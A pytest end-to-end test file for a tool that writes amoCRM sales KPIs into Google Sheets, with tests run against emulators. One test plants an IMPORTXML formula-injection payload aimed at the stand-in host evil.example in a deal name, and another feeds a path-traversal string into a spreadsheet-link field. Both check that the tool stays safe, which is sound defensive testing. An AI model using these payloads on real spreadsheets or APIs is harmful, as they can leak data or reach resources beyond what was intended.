"""Whole cycles against both emulators: what supervisors and managers would see."""

from __future__ import annotations

import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
import requests
import yaml

from sheets_kpi.clock import epoch
from sheets_kpi.config import Config
from sheets_kpi.cycle import read_inputs, run_cycle
from sheets_kpi.emulators.amocrm import DEMO_TOKEN, AmoState, generate_agency
from sheets_kpi.emulators.amocrm import serve as serve_amocrm
from sheets_kpi.emulators.server import EmulatorServer
from sheets_kpi.emulators.sheets import SheetsState
from sheets_kpi.emulators.sheets import serve as serve_sheets
from sheets_kpi.emulators.sheets.cells import Formula
from sheets_kpi.kpi.engine import compute
from sheets_kpi.kpi.inputs import Inputs
from sheets_kpi.sheets.gateway import SheetsGateway
from sheets_kpi.sheets.init_tabs import init_inputs
from sheets_kpi.sources.amocrm import make_client
from sheets_kpi.sources.amocrm.sync import sync
from sheets_kpi.store.db import Store
from sheets_kpi.store.frames import amocrm_frames
from tests.conftest import NOW, NOW_AT, ROOT, emulated_config

pytestmark = pytest.mark.e2e

BOOK = "e2e-book"
MOSCOW = ZoneInfo("Europe/Moscow")
#: What the data issue of a lost input tab says, in English and in the tab's Russian.
KEPT, KEPT_RU = "the last good output is kept", "остаются последние верные данные"
PLAN_DEPENDENT = {"plan", "achievement", "contribution", "score", "rank", "bonus"}


@dataclass
class World:
    account: AmoState
    amo_server: EmulatorServer
    sheets: SheetsState
    sheets_server: EmulatorServer
    config: Config
    store: Store

    def gateway(self) -> SheetsGateway:
        return SheetsGateway(self.config.google)

    now: datetime

    def cycle(self, now: datetime | None = None):
        return run_cycle(
            self.config,
            self.store,
            make_client(self.config.amocrm),
            self.gateway(),
            now=now or self.now,
        )

    def violated_lead(self) -> int:
        """A lead of a rostered manager with a deal violation (the manager tab lists it)."""
        violations = amocrm_frames(self.store)["deal_violations"]
        leads = self.account.entities["leads"]
        roster_ids = {int(r[0]) for r in self.tab("Сотрудники")[1:]}
        return next(
            int(v)
            for v in violations["lead_id"]
            if leads[int(v)]["responsible_user_id"] in roster_ids
        )

    def worksheet(self, title: str):
        return self.gateway().client.open_by_key(BOOK).worksheet(title)

    def tab(self, title: str) -> list[list]:
        return self.worksheet(title).get_values(value_render_option="UNFORMATTED_VALUE")

    def data_kpi(self) -> pd.DataFrame:
        header, *rows = self.tab("data_kpi")
        frame = pd.DataFrame(rows, columns=header)
        for column in ("manager_id", "plan", "fact", "achievement"):
            frame[column] = pd.to_numeric(frame[column].replace("", None), errors="coerce")
        return frame


@pytest.fixture
def world(tmp_path) -> Iterator[World]:
    account = generate_agency(managers=8, months=2, seed=11, now=NOW)
    account.set_now(NOW)  # amoCRM's clock is the world's: edits are stamped at its instant
    amo_server = serve_amocrm(account, rps=1000)
    sheets = SheetsState(seed=3)
    sheets.create_spreadsheet("KPI", BOOK)
    sheets_server = serve_sheets(state=sheets)
    config = emulated_config(tmp_path / "store.db", BOOK, amo_server.url, sheets_server.url, 90)
    store = Store(config.store)
    sync(make_client(config.amocrm), store, config.amocrm, now=NOW_AT)
    gateway = SheetsGateway(config.google)
    init_inputs(gateway, config, amocrm_frames(store)["users"], NOW_AT)
    period = NOW_AT.strftime("%Y-%m")
    plans = [[period, "", dept.id, kpi.id, 5] for dept in config.departments for kpi in dept.kpis]
    gateway.http.values_append(
        BOOK, "'Планы'!A1", params={"valueInputOption": "RAW"}, body={"values": plans}
    )
    world = World(account, amo_server, sheets, sheets_server, config, store, NOW_AT)
    yield world
    world.store.close()  # the one a test restarted with, if it did
    amo_server.stop()
    sheets_server.stop()


def engine_now(world: World, now: datetime):
    frames = read_inputs(world.gateway(), world.config).frames
    return compute(
        Inputs.build(**amocrm_frames(world.store), **frames), world.config, pd.Timestamp(now)
    )


def test_a_cycle_writes_what_the_engine_computes(world: World) -> None:
    now = world.now
    report = world.cycle(now)
    assert report.status == "ok", report.error
    assert (report.sheets_read_requests, report.sheets_write_requests) == (2, 2)
    expected = engine_now(world, now).kpi
    written = world.data_kpi()
    assert set(written["status"]) == {"draft", "current"}  # October is still a draft
    written = written[written["status"] == "current"]
    assert len(written) == len(expected)
    merged = written.merge(expected, on=["manager_id", "kpi"], suffixes=("", "_engine"))
    assert ((merged["fact"] - merged["fact_engine"]).abs().fillna(0) < 1e-9).all()
    assert merged["fact"].isna().equals(merged["fact_engine"].isna())
    titles = [s.title for s in world.sheets.get(BOOK).sheets]
    for name in (
        "Итоги — Продажи",
        "Рейтинг — Продажи",
        "Динамика — Продажи",
        "Матрица",
        "Клиенты",
        "data_daily",
        "data_managers",
        "Проблемы данных",
        "Журнал",
    ):
        assert name in titles
    log = world.tab("Журнал")
    assert len(log) == 2 and log[1][6] == "ok"
    # SPEC §8.4: the Power BI columns, in this order, whatever the locale
    assert world.tab("data_kpi")[0] == [
        "period",
        "period_start",
        "period_end",
        "department",
        "manager_id",
        "manager",
        "kpi",
        "kpi_title",
        "unit",
        "direction",
        "plan",
        "fact",
        "achievement",
        "weight",
        "contribution",
        "score",
        "rank",
        "bonus",
        "computed_at",
        "status",
        "version",
    ]
    assert world.tab("data_daily")[0] == (
        ["date", "manager_id", "manager", "department", "metric", "num", "den", "value"]
    )


def test_english_locale_titles_the_tabs_but_leaves_the_data_tabs_alone(world: World) -> None:
    now = world.now
    assert world.cycle(now).status == "ok"
    world.sheets.create_spreadsheet("KPI en", "en-book")
    google = world.config.google.model_copy(update={"spreadsheet": "en-book"})
    config = world.config.model_copy(update={"locale": "en", "google": google})
    gateway = SheetsGateway(config.google)
    init_inputs(gateway, config, amocrm_frames(world.store)["users"], now)
    report = run_cycle(config, world.store, make_client(config.amocrm), gateway, now=now)
    assert report.status == "ok", report.error
    titles = [s.title for s in world.sheets.get("en-book").sheets]
    for title in ("Managers", "Plans", "Summary — Sales", "Ranking — Sales", "Matrix", "Run log"):
        assert title in titles
    assert not any(t in titles for t in ("Сотрудники", "Итоги — Продажи", "Журнал"))
    book = gateway.client.open_by_key("en-book")
    for tab in ("data_kpi", "data_daily", "data_managers"):
        english = book.worksheet(tab).get_values(value_render_option="UNFORMATTED_VALUE")
        russian = world.tab(tab)
        if tab == "data_kpi":  # plans live in each spreadsheet: compare what does not use them
            keep = [i for i, c in enumerate(russian[0]) if c not in PLAN_DEPENDENT]
            english, russian = ([[r[i] for i in keep] for r in t] for t in (english, russian))
        assert english == russian, tab


def test_a_second_cycle_without_changes_writes_only_the_run_log(world: World) -> None:
    now = world.now
    world.cycle(now)
    again = world.cycle(now)
    assert again.status == "ok"
    assert again.sheets_write_requests == 1  # the Журнал row
    assert again.rows_written == 0
    assert len(world.tab("Журнал")) == 3


def test_an_edit_by_hand_in_an_output_tab_is_undone_by_the_nightly_cycle(world: World) -> None:
    now = world.now
    world.cycle(now)
    summary = world.worksheet("Итоги — Продажи")
    original = summary.get_values("B2", value_render_option="UNFORMATTED_VALUE")
    summary.update([[99999]], "B2")  # supervisors may edit protected tabs
    assert world.cycle(now).sheets_write_requests == 1  # same output: nothing rewritten
    assert summary.get_values("B2", value_render_option="UNFORMATTED_VALUE") == [[99999]]
    gateway = world.gateway()
    nightly = run_cycle(
        world.config, world.store, make_client(world.config.amocrm), gateway, now, reconcile=True
    )
    assert nightly.status == "ok", nightly.error
    assert summary.get_values("B2", value_render_option="UNFORMATTED_VALUE") == original


def test_a_supervisors_plan_edit_changes_the_next_cycles_achievement(world: World) -> None:
    now = world.now
    world.cycle(now)
    kpi = world.data_kpi()
    kpi = kpi[kpi["status"] == "current"]
    target = kpi[(kpi["kpi"] == "sales_rub") & (kpi["fact"] > 0)].iloc[0]
    manager_id = int(target["manager_id"])
    world.worksheet("Планы").append_rows(
        [[now.strftime("%Y-%m"), manager_id, "", "sales_rub", float(target["fact"]) * 2]]
    )
    world.cycle(now)
    kpi = world.data_kpi()
    kpi = kpi[kpi["status"] == "current"]
    row = kpi[(kpi["kpi"] == "sales_rub") & (kpi["manager_id"] == manager_id)].iloc[0]
    assert row["achievement"] == pytest.approx(0.5)


def test_roster_changes_add_and_remove_manager_tabs(world: World) -> None:
    now = world.now
    world.cycle(now)
    roster = world.worksheet("Сотрудники")
    first = roster.get_values("A2:B2")[0]
    assert first[1] in [s.title for s in world.sheets.get(BOOK).sheets]
    roster.update([["нет"]], "G2")  # the first manager leaves
    roster.append_rows([[99, "Новый Сотрудник", "sales", "junior", "", "", "да", ""]])
    world.cycle(now)
    titles = [s.title for s in world.sheets.get(BOOK).sheets]
    assert "Новый Сотрудник" in titles and first[1] not in titles


def test_a_tab_the_tool_did_not_create_is_left_alone_and_reported(world: World) -> None:
    book = world.gateway().client.open_by_key(BOOK)
    book.add_worksheet("Матрица", rows=5, cols=3).update([["заметки руководителя"]], "A1")
    report = world.cycle()
    assert report.status == "ok", report.error
    assert world.tab("Матрица") == [["заметки руководителя"]]
    issues = world.tab("Проблемы данных")
    assert any("Матрица" in row and "создал не sheets-kpi" in row[4] for row in issues)


def test_a_personal_spreadsheet_gets_the_managers_tab(world: World) -> None:
    own, other, missing = "own-book-0123456789ab", "other-book-0123456789", "no-such-book-012345678"
    world.sheets.create_spreadsheet("Личный KPI", own)
    roster = world.worksheet("Сотрудники")
    name = roster.get_values("B2")[0][0]
    roster.update([[f"https://docs.google.com/spreadsheets/d/{BOOK}/edit"]], "F2")  # the main one
    assert world.cycle().status == "ok"
    titles = [s.title for s in world.sheets.get(BOOK).sheets]
    assert name in titles and "data_kpi" in titles and "Журнал" in titles

    roster.update([[f"https://docs.google.com/spreadsheets/d/{own}/edit#gid=0"]], "F2")
    report = world.cycle()
    assert report.status == "ok", report.error
    assert name in [s.title for s in world.sheets.get(own).sheets]
    assert name not in [s.title for s in world.sheets.get(BOOK).sheets]

    world.sheets.create_spreadsheet("Чужая таблица", other)
    book = world.gateway().client.open_by_key(other)
    book.add_worksheet(name, rows=5, cols=3)  # same title, not created by sheets-kpi
    roster.update([[other]], "F2")
    assert world.cycle().status == "ok"
    assert any(row[2] == f"{name} ({other})" for row in world.tab("Проблемы данных")[1:])

    roster.update([[missing]], "F2")  # a typo: that write fails, the rest is written
    report = world.cycle()
    assert report.status == "failed" and f"personal spreadsheet {missing}" in report.error
    assert world.tab("Журнал")[-1][6] == "failed"


@pytest.mark.parametrize(
    "cell",
    [
        "not-a-spreadsheet",
        "../../drive/v3/files/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms",
        "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms#",
        "https://drive.google.com/file/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/view",
    ],
)
def test_a_bad_personal_spreadsheet_is_a_data_issue_and_the_tab_stays(world, cell) -> None:
    roster = world.worksheet("Сотрудники")
    name = roster.get_values("B2")[0][0]
    roster.update([[cell]], "F2")
    world.sheets_server.reset_stats()
    report = world.cycle()
    paths = [entry.path for entry in world.sheets_server.log]
    assert paths and all(path.startswith(f"/v4/spreadsheets/{BOOK}") for path in paths), paths
    assert report.status == "ok", report.error
    assert name in [s.title for s in world.sheets.get(BOOK).sheets]
    issues = world.tab("Проблемы данных")[1:]
    row = next(r for r in issues if r[2] == "строка 2, столбец «Личная таблица»")
    assert row[0] == "warning" and row[1] == "Сотрудники" and row[3] == cell
    assert "вкладка менеджера остаётся в основной таблице" in row[4]
    assert roster.get_values("F2")[0][0] == cell  # the input is left as typed


def _lose(world: World, title: str, how: str) -> None:
    tab = world.worksheet(title)
    if how == "deleted":
        world.gateway().client.open_by_key(BOOK).del_worksheet(tab)
    elif how == "renamed":
        tab.update_title(f"{title} (старое)")
    elif how == "emptied":
        tab.clear()
    elif how == "rows cleared":
        tab.batch_clear(["A2:H1000"])
    elif how == "header typo":
        tab.update([["ID amo" if title == "Сотрудники" else "Дата?"]], "A1")


@pytest.mark.parametrize(
    ("title", "how"),
    [
        ("Сотрудники", "deleted"),
        ("Сотрудники", "renamed"),
        ("Сотрудники", "emptied"),
        ("Сотрудники", "rows cleared"),
        ("Сотрудники", "header typo"),
        ("Планы", "deleted"),
        ("Нарушения", "header typo"),
    ],
)
def test_a_lost_input_tab_keeps_the_last_good_output(world: World, title: str, how: str) -> None:
    assert world.cycle().status == "ok"
    before = {s.title: s.grid for s in world.sheets.get(BOOK).sheets if s.title != title}
    outputs = [t for t in before if t not in {"Проблемы данных", "Журнал"}]
    _lose(world, title, how)
    report = world.cycle(world.now + timedelta(minutes=15))
    assert report.status == "failed" and "the last good output is kept" in (report.error or "")
    after = {s.title: s.grid for s in world.sheets.get(BOOK).sheets}
    for name in outputs:  # every output tab is still there, cell for cell
        assert after[name] == before[name], name
    issues = world.tab("Проблемы данных")[1:]
    kept = [row for row in issues if KEPT in row[4] or KEPT_RU in row[4]]
    assert len(kept) == 1 and kept[0][0] == "error", issues
    assert world.tab("Журнал")[-1][6] == "failed"


def test_a_formula_in_a_deal_name_stays_text(world: World) -> None:
    now = world.now
    world.cycle(now)
    leads = world.account.entities["leads"]
    lead_id = world.violated_lead()
    leads[lead_id]["name"] = '=IMPORTXML("http://evil.example/x", "//a")'
    leads[lead_id]["updated_at"] = NOW
    world.account._changed()
    assert world.cycle(now).status == "ok"
    found = [
        value
        for sheet in world.sheets.get(BOOK).sheets
        for value in sheet.cells.values()
        if isinstance(value, str | Formula) and "IMPORTXML" in str(value)
    ]
    assert found and set(found) == {'=IMPORTXML("http://evil.example/x", "//a")'}
    assert all(isinstance(value, str) for value in found)  # text cells, not formulas


def test_a_killed_run_gets_its_run_log_row_on_the_next_cycle(world: World) -> None:
    assert world.cycle().status == "ok"
    killed = world.store.start_run(world.now)  # a worker killed -9 mid-cycle leaves this
    later = world.now + timedelta(minutes=15)
    assert world.cycle(later).status == "ok"
    *_, told, current = world.tab("Журнал")
    started = world.now.astimezone(MOSCOW).strftime("%Y-%m-%d %H:%M:%S")
    assert told == [
        started,
        "",
        "",
        "",
        "",
        "",
        "killed",
        f"run #{killed} was stopped (killed or crashed) before it finished",
    ]
    assert current[0] == later.astimezone(MOSCOW).strftime("%Y-%m-%d %H:%M:%S")
    assert current[6] == "ok"
    assert world.cycle(later + timedelta(minutes=15)).status == "ok"
    assert [row[6] for row in world.tab("Журнал")[-3:]] == ["killed", "ok", "ok"]  # told once


def test_strings_past_googles_cell_limit_are_cut_with_a_marker(world: World) -> None:
    now = world.now
    world.cycle(now)
    leads = world.account.entities["leads"]
    lead_id = world.violated_lead()
    leads[lead_id]["name"] = "Большая сделка " + "я" * 1_000_000
    leads[lead_id]["updated_at"] = NOW
    world.account._changed()
    plan = "9x" * 25_000  # the longest cell Google takes; its issue message quotes it
    period = now.strftime("%Y-%m")
    world.gateway().http.values_append(
        BOOK,
        "'Планы'!A1",
        params={"valueInputOption": "RAW"},
        body={"values": [[period, "", "sales", "call_quality", plan]]},
    )
    assert world.cycle(now).status == "ok"
    texts = [
        value
        for sheet in world.sheets.get(BOOK).sheets
        for value in sheet.cells.values()
        if isinstance(value, str)
    ]
    assert max(map(len, texts)) == 50_000
    cut = [text for text in texts if len(text) == 50_000 and text != plan]
    assert any(text.startswith("Большая сделка яяя") for text in cut)
    assert all(" … [cut: " in text for text in cut)
    issues = world.tab("Проблемы данных")[1:]
    row = next((r for r in issues if r[1] == "Планы" and r[3].startswith("9x9x")), None)
    assert row, [[c[:80] for c in r] for r in issues if r[1] == "Планы"]
    assert row[3] == plan and len(row[4]) == 50_000 and row[4].endswith(" shown]")
    assert world.tab("Планы")[-1][4] == plan  # the input cell itself is left as typed


def test_an_expired_token_fails_the_cycle_clearly_but_still_writes_from_the_store(
    world: World,
) -> None:
    config = world.config.model_copy(
        update={
            "amocrm": world.config.amocrm.model_copy(
                update={
                    "auth": world.config.amocrm.auth.model_copy(
                        update={"long_lived_token": "expired"}
                    )
                }
            )
        }
    )
    report = run_cycle(
        config, world.store, make_client(config.amocrm), world.gateway(), now=world.now
    )
    assert report.status == "failed"
    assert "Keys and scopes" in (report.error or "")
    assert "data_kpi" in [s.title for s in world.sheets.get(BOOK).sheets]
    assert world.tab("Журнал")[1][6] == "failed"


def test_a_stop_request_ends_the_cycle_as_stopped_and_an_interrupt_as_failed(
    world: World, monkeypatch
) -> None:
    world.cycle()  # the run log tab exists
    stop = threading.Event()
    stop.set()
    amo = make_client(world.config.amocrm)
    report = run_cycle(world.config, world.store, amo, world.gateway(), world.now, stop=stop)
    assert report.status == "stopped" and "stopped on request" in (report.error or "")
    assert world.tab("Журнал")[-1][6] == "stopped"

    def interrupted(self):
        raise KeyboardInterrupt

    monkeypatch.setattr(SheetsGateway, "read_grids", interrupted)
    with pytest.raises(KeyboardInterrupt):
        run_cycle(world.config, world.store, amo, world.gateway(), world.now)
    last = world.store.runs()[0]
    assert last["status"] == "failed" and "KeyboardInterrupt" in last["error"]


def runs_in(path: Path) -> list[dict[str, Any]]:
    """The run log of the store at `path`, read without keeping it open."""
    with Store(path) as store:
        return store.runs()


def test_serve_runs_cycles_and_stops_cleanly_on_sigterm(world: World, tmp_path) -> None:
    """…with the TV page (`--tv`) on the data of its last cycle."""
    data = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
    data["amocrm"].update(base_url=world.amo_server.url, requests_per_second=50, backfill_days=90)
    data["google"].update(spreadsheet=BOOK, endpoint=world.sheets_server.url)
    data["store"] = str(tmp_path / "serve.db")
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "sheets_kpi",
            "--config",
            str(path),
            "serve",
            "--every-minutes",
            "0.02",
            "--tv",
            "0",
        ],
        env={"AMO_TOKEN": DEMO_TOKEN, "PATH": ""},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None
        tv = process.stdout.readline().split()[3]  # "TV page on http://127.0.0.1:N/ (…"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if (tmp_path / "serve.db").exists() and len(runs_in(tmp_path / "serve.db")) >= 3:
                break
            time.sleep(0.3)
        shown = requests.get(tv + "api/data", timeout=10).json()
        process.send_signal(signal.SIGTERM)
        _, err = process.communicate(timeout=60)
    finally:
        process.kill()
    assert process.returncode == 0, err
    runs = runs_in(tmp_path / "serve.db")
    assert len(runs) >= 3
    assert all(run["status"] in ("ok", "failed", "stopped") for run in runs)
    assert "SIGTERM received" in err and "worker stopped" in err
    assert tv.startswith("http://127.0.0.1:")
    assert [d["id"] for d in shown["departments"]] == [d.id for d in world.config.departments]


def test_the_instant_a_month_is_cut_a_win_a_second_before_midnight_stays_in_its_month(
    world: World,
) -> None:
    """Moscow midnight between 30 November and 1 December: the last second is November's."""
    last = datetime(2026, 11, 30, 23, 59, 59, tzinfo=MOSCOW)
    first = last + timedelta(seconds=1)
    sales = {int(row[0]) for row in world.tab("Сотрудники")[1:] if row[2] == "sales"}
    lead = next(
        lead
        for lead in world.account.entities["leads"].values()
        if lead["responsible_user_id"] in sales
        and lead["status_id"] not in (142, 143)
        and lead["price"] > 0
    )
    manager = lead["responsible_user_id"]

    def sales_row(period: str) -> pd.Series:
        kpi = world.data_kpi()
        mine = kpi[(kpi["kpi"] == "sales_rub") & (kpi["manager_id"] == manager)]
        return mine[mine["period"] == period].iloc[0]

    assert world.cycle(last - timedelta(seconds=1)).status == "ok"
    before = sales_row("2026-11")
    world.account.set_now(epoch(last))
    world.account.move_lead_status(lead["id"], 142, manager, at=epoch(last))
    assert world.cycle(last).status == "ok"
    november = sales_row("2026-11")
    assert (november["status"], november["period_end"]) == ("current", serial("2026-11-30"))
    assert november["fact"] == before["fact"] + lead["price"]
    assert november["computed_at"] == pytest.approx(serial("2026-11-30 20:59:59"))
    assert world.tab("Журнал")[-1][0] == "2026-11-30 23:59:59"  # the configured zone's time

    world.account.set_now(epoch(first))
    assert world.cycle(first).status == "ok"
    december = sales_row("2026-12")
    assert (december["status"], december["period_start"]) == ("current", serial("2026-12-01"))
    assert december["fact"] == 0  # the win is November's; December has none yet
    assert december["computed_at"] == pytest.approx(serial("2026-11-30 21:00:00"))
    assert world.tab("Журнал")[-1][0] == "2026-12-01 00:00:00"
    draft = sales_row("2026-11")  # November is now the draft statement, win included
    assert (draft["status"], draft["fact"]) == ("draft", november["fact"])


def serial(text: str) -> float:
    """A UTC (or plain) date-time as the serial number of a Sheets date cell."""
    return (pd.Timestamp(text) - pd.Timestamp("1899-12-30")) / pd.Timedelta(days=1)


def close_row(world: World, *cells: object) -> None:
    world.gateway().http.values_append(
        BOOK, "'Закрытие'!A1", params={"valueInputOption": "RAW"}, body={"values": [list(cells)]}
    )


DEC_2 = datetime(2026, 12, 2, 10, tzinfo=MOSCOW)


def test_a_month_approved_in_the_close_tab_holds_across_a_restart_and_a_reconcile(
    world: World,
) -> None:
    close_row(world, "2026-11", "", "", "утвердить", "Иванова", "закрыто")
    report = world.cycle(DEC_2)
    assert report.status == "ok", report.error
    assert (report.sheets_read_requests, report.sheets_write_requests) == (2, 2)
    assert len(report.approved) == len(world.config.departments)
    statement = world.tab("Ведомость 2026-11")
    assert statement[0][0].startswith("Период 2026-11: утверждено.")
    assert {row[9] for row in statement[2:]} == {"утверждено"}
    assert {row[10] for row in statement[2:]} == {"Иванова"}
    world.store.close()
    world.store = Store(world.config.store)  # a restart
    again = run_cycle(
        world.config,
        world.store,
        make_client(world.config.amocrm),
        world.gateway(),
        DEC_2 + timedelta(hours=17),
        reconcile=True,
    )
    assert again.status == "ok" and again.approved == []
    assert world.tab("Ведомость 2026-11") == statement
    statuses = set(zip(world.data_kpi()["period"], world.data_kpi()["status"], strict=True))
    assert statuses == {("2026-11", "approved"), ("2026-12", "current")}


def test_a_win_reopened_after_approval_is_a_discrepancy_with_its_link(world: World) -> None:
    close_row(world, "2026-11", "", "", "approve", "Иванова", "")
    assert world.cycle(DEC_2).status == "ok"
    wins = [w for s in world.store.snapshots() for w in s.payload["wins"]]
    win = max(wins, key=lambda w: w["price"])
    before = next(
        e["value_before"][0]["lead_status"]
        for e in world.account.events
        if e["type"] == "lead_status_changed"
        and e["entity_id"] == win["lead_id"]
        and e["value_after"][0]["lead_status"]["id"] == 142
    )
    later = DEC_2 + timedelta(days=1)
    world.account.set_now(epoch(later))
    world.account.move_lead_status(
        win["lead_id"], before["id"], 0, pipeline_id=before["pipeline_id"], at=epoch(later)
    )
    assert world.cycle(later).status == "ok"
    found = world.tab("Расхождения")
    links = [row[9] for row in found[2:] if row[9]]
    assert any(f"/leads/detail/{win['lead_id']}" in text for text in links), found
    bonus_rows = [row for row in found[2:] if row[3] == "Бонус"]
    assert bonus_rows and all(row[6] != "" for row in bonus_rows)
    statement = world.tab("Ведомость 2026-11")
    assert {row[9] for row in statement[2:]} == {"утверждено"}  # what was paid stays


def test_recomputing_a_period_leaves_the_live_tabs_and_snapshots_alone(world: World) -> None:
    from sheets_kpi.recompute import recompute

    close_row(world, "2026-11", "", "", "approve", "Иванова", "")
    assert world.cycle(DEC_2).status == "ok"
    book = world.sheets.get(BOOK)
    before = {s.title: world.tab(s.title) for s in book.sheets}
    snapshots = world.store.snapshots()
    done = recompute(world.config, world.store, world.gateway(), "2026-11", DEC_2)
    assert done.title == "Пересчёт 2026-11"
    after = {s.title: world.tab(s.title) for s in world.sheets.get(BOOK).sheets}
    assert set(after) - set(before) == {"Пересчёт 2026-11"}
    assert {t: v for t, v in after.items() if t in before} == before
    assert world.store.snapshots() == snapshots
    dry = recompute(world.config, world.store, world.gateway(), "2026-11", DEC_2, dry_run=True)
    assert set(dry.differences or {}) == {d.id for d in world.config.departments}
    assert all(found.empty for found in (dry.differences or {}).values())  # nothing moved
    assert world.store.snapshots() == snapshots


def test_the_xlsx_export_carries_rules_charts_widths_and_frozen_rows(
    world: World, tmp_path
) -> None:
    import openpyxl
    from openpyxl.worksheet.cell_range import CellRange

    from sheets_kpi.emulators.sheets import export_xlsx

    world.cycle()
    book = world.sheets.get(BOOK)
    workbook = openpyxl.load_workbook(export_xlsx(world.sheets, BOOK, tmp_path / "kpi.xlsx"))
    sheets = [s for s in book.sheets if s.title in workbook.sheetnames]
    assert sum(len(s.extras.get("charts", [])) for s in sheets) >= 4
    assert sum(len(s.extras.get("conditionalFormats", [])) for s in sheets) >= 30
    for sheet in sheets:
        target = workbook[sheet.title]
        rules = [
            (str(area.sqref), rule.formula, rule.dxf.fill.fgColor.rgb, rule.stopIfTrue)
            for area in target.conditional_formatting
            for rule in area.rules
        ]
        expected = []
        for rule in sheet.extras.get("conditionalFormats", []):
            boolean = rule["booleanRule"]
            colour = boolean["format"]["backgroundColor"]
            rgb = "00" + "".join(
                f"{round(colour.get(c, 0) * 255):02X}" for c in ("red", "green", "blue")
            )
            formula = boolean["condition"]["values"][0]["userEnteredValue"]
            for grid in rule["ranges"]:
                area = openpyxl.utils.cell.get_column_letter(grid["startColumnIndex"] + 1)
                end = openpyxl.utils.cell.get_column_letter(grid["endColumnIndex"])
                sqref = f"{area}{grid['startRowIndex'] + 1}:{end}{grid['endRowIndex']}"
                expected.append((CellRange(sqref).coord, [formula[1:]], rgb, True))
        assert sorted(rules) == sorted(expected), sheet.title
        charts = sheet.extras.get("charts", [])
        assert len(target._charts) == len(charts), sheet.title
        for made, spec in zip(target._charts, charts, strict=True):
            basic = spec["spec"]["basicChart"]
            assert made.title.tx.rich.p[0].r[0].t == spec["spec"]["title"]
            drawn = [s for combined in made._charts for s in combined.series]  # itself first
            assert len(drawn) == len(basic["series"])  # right-axis series in a combined chart
            domain = basic["domains"][0]["domain"]["sourceRange"]["sources"][0]
            assert made.series[0].cat.numRef.f.endswith(
                f"$A${domain['startRowIndex'] + 2}:$A${domain['endRowIndex']}"
            )
            anchor = spec["position"]["overlayPosition"]["anchorCell"]
            assert (made.anchor._from.row, made.anchor._from.col) == (
                anchor["rowIndex"],
                anchor["columnIndex"],
            )
        for index, props in sheet.columns.items():
            letter = openpyxl.utils.cell.get_column_letter(index + 1)
            assert target.column_dimensions[letter].width == pytest.approx(props["pixelSize"] / 7)
        frozen = sheet.grid.get("frozenRowCount") or 0
        assert target.freeze_panes == (f"A{frozen + 1}" if frozen else None), sheet.title
